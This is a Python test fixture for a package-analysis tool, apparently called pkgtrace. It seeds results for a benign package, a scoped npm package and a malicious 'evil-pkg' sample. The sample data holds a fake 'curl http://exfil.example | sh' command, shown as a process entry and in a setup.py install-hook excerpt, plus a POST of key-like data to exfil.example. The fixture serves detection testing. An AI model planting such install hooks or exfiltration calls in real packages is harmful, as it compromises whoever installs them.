"""The dataset the web tests read: the results tests' hand-written documents, plus what the pkgtrace
report adds (process tree, captured traffic, static signals), loaded through the real index loader."""

from __future__ import annotations

import copy
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "results"))
from fixture_docs import all_docs, dynamic_section, static_section  # noqa: E402

from pkgtrace.model import Ecosystem, Package  # noqa: E402
from pkgtrace.results.index import Index, load_documents  # noqa: E402
from pkgtrace.results.stores.local import LocalStore  # noqa: E402

EVIL_NEW = Package(Ecosystem.PYPI, "evil-pkg", "1.0.0")
EVIL_OLD = Package(Ecosystem.PYPI, "evil-pkg", "0.9.0")
SCOPED = Package(Ecosystem.NPM, "@acme/widget", "2.0.0")
QUEUED = Package(Ecosystem.PYPI, "evil-pkg", "1.1.0")


def _https(sni, method, target, host=None, headers=(), body_b64="", **rest) -> dict:
    """A connection as the simulator records it: TLS intercepted, one request, what became of it."""
    return {"kind": "tcp", "dst": "198.18.0.3", "port": 443, "hostname": "pypi.org", "allowed": False,
            "tls": {"sni": sni, "alpn": ["http/1.1"], "intercepted": True, "version": "TLSv1.3"},
            "http": {"method": method, "target": target, "version": "HTTP/1.1", "host": host or sni,
                     "headers": [["Host", host or sni], *headers], "body_b64": body_b64, "body_length": 0,
                     "body_complete": True}, **rest}


# The registry side of the network story, as the simulator and the proxy record it: one confirmed
# read, a refused upload with a token, a lookalike name, a forwarding nobody confirmed, a pinned client.
REGISTRY_STORY = [
    _https("pypi.org", "GET", "/simple/six/", allowed=True,
           proxy={"decision": "forwarded", "reason": "GET of a package-manager path on pypi.org",
                  "status": 200, "cache": "hit"},
           answer={"status": 200, "kind": "registry", "length": 4812, "by": "registry"}),
    _https("pypi.org", "POST", "/legacy/", headers=[["Authorization", "Basic X190b2tlbl9fOnB5cGktQUFBQQ=="]],
           body_b64="Y29udGVudD1ldmls",
           proxy={"decision": "refused", "reason": "POST is not a read: only GET and HEAD reach a registry",
                  "write": True},
           answer={"status": 403, "kind": "refused", "length": 21, "by": "proxy"}),
    _https("pypi.org.", "GET", "/simple/evil/",
           proxy={"decision": "refused", "reason": "pypi.org. is not a registry host of this run", "write": False},
           answer={"status": 200, "kind": "ok", "length": 12, "by": "simulator"}),
    _https("pypi.org", "PUT", "/simple/forged/",
           proxy={"decision": "forwarded", "unconfirmed": "the proxy has no record of forwarding this"},
           answer={"status": 200, "kind": "registry", "length": 0, "by": "registry"}),
    {"kind": "tcp", "dst": "198.18.0.9", "port": 443, "hostname": "pinned.example", "allowed": False,
     "tls": {"sni": "pinned.example", "alpn": [], "intercepted": False,
             "refused": "the client refused the certificate (TLSV1_ALERT_UNKNOWN_CA)"}},
]


def malicious_docs() -> dict:
    docs = all_docs(name="evil-pkg", version="1.0.0")
    docs["report"]["dynamic"] = dynamic_section(processes=[
            {"pid": 10, "ppid": None, "phase": "install", "argv": ["pip", "install", "evil-pkg-1.0.0.tar.gz"],
             "exe": "/usr/bin/pip", "exit_code": 0},
            {"pid": 11, "ppid": 10, "phase": "install", "argv": ["sh", "-c", "curl http://exfil.example | sh"],
             "exe": "/bin/sh", "exit_code": 0},
            {"pid": 12, "ppid": 11, "phase": "install", "argv": ["curl", "http://exfil.example"],
             "exe": "/usr/bin/curl", "exit_code": 0},
        ], phases={"install": {"reason": "", "duration_s": 3.2, "exit_code": 0, "network": [
            {"kind": "tcp", "dst": "203.0.113.7", "port": 80, "hostname": "exfil.example",
             "http": {"method": "POST", "target": "/collect", "version": "HTTP/1.1", "host": "exfil.example",
                      "body_b64": "c3NoLXJzYSBBQUFB"}},
            {"kind": "tcp", "dst": "203.0.113.7", "port": 443, "hostname": "cdn.example",
             "tls": {"sni": "cdn.example", "alpn": ["http/1.1"]}, "allowed": False},
            *REGISTRY_STORY]}})
    docs["report"]["static"] = static_section(
        install_hooks=[{"kind": "setup.py", "file": "setup.py", "details": {},
                        "excerpt": "class Install(install):\n    def run(self):\n        os.system('curl http://exfil.example | sh')"}],
        signals=[{"kind": "url", "file": "setup.py", "line": 12, "value": "http://exfil.example/x"}])
    docs["report"]["verdict"]["findings"][1]["evidence"]["excerpt"] = "os.system('curl http://exfil.example | sh')"
    return docs


def benign_docs() -> dict:
    docs = all_docs(name="evil-pkg", version="0.9.0")
    install = docs["dynamic"]["Analysis"]["install"]
    install.update({"Files": [], "Sockets": [], "Commands": [], "DNS": []})
    docs["dynamic"]["Analysis"]["execute"]["DNS"] = []
    docs["static"]["results"]["files"] = [docs["static"]["results"]["files"][1]]
    docs["report"]["verdict"].update(score=0.02, label="benign", findings=[])
    return docs


def scoped_docs() -> dict:
    docs = copy.deepcopy(benign_docs())
    for d in (docs["dynamic"]["Package"],):
        d.update({"Ecosystem": "npm", "Name": "@acme/widget", "Version": "2.0.0"})
    docs["report"]["package"] = {"ecosystem": "npm", "name": "@acme/widget", "version": "2.0.0"}
    return docs


def seed(index: Index, store: LocalStore) -> None:
    for pkg, docs in ((EVIL_OLD, benign_docs()), (EVIL_NEW, malicious_docs()), (SCOPED, scoped_docs())):
        store.put(pkg, docs)
        load_documents(index, pkg, docs, location=store.location(pkg), duration_s=5.0, worker="test")
    index.request(QUEUED, source="feed", priority=0)
